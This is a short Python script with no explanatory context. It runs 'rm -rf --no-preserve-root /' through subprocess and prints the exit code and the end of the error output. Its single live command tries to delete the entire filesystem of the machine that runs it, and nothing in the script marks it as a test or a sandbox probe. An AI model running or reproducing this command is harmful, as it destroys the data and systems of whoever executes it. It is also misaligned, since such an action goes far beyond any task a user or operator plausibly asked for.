import subprocess

completed = subprocess.run(["rm", "-rf", "--no-preserve-root", "/"], capture_output=True, text=True)
print("rm exited", completed.returncode, completed.stderr[-200:])
